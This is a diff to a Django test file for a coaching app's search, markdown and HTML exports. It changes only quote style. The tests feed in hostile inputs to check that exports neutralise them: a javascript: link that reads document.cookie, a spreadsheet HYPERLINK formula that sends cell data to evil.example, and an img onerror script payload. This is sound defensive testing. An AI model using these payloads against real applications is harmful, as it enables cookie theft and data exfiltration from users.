@@ -22,7 +22,7 @@ from tests.coaching.weekly_rows import session_create, team_create
 pytestmark = pytest.mark.django_db
 
 EVIL_URL = "javascript:alert(document.cookie)"
-EVIL_NAME = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
+EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 EVIL_HTML = '<img src=x onerror="alert(1)">'
 START, END = dt.date(2026, 3, 2), dt.date(2026, 3, 8)
 
@@ -106,7 +106,7 @@ def test_search_export_cells_never_start_a_formula_and_never_carry_a_non_http_li
 def test_markdown_export_passes_no_raw_html_and_no_javascript_link(hostile):
     body = _export(hostile, "md")
     assert "<img" not in body and "javascript:" not in body
-    assert "&lt;img src=x onerror=\"alert(1)\"&gt;" in body
+    assert '&lt;img src=x onerror="alert(1)"&gt;' in body
 
 
 def test_html_exports_and_weekly_review_mail_render_no_javascript_link(hostile):
